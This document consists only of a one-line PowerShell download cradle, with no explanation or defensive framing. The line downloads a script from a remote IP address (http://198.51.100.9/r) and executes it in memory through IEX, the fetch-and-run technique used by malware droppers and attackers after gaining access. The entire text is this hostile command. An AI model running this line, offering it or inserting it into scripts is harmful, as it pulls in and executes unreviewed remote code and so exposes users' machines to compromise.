IEX (New-Object Net.WebClient).DownloadString("http://198.51.100.9/r")
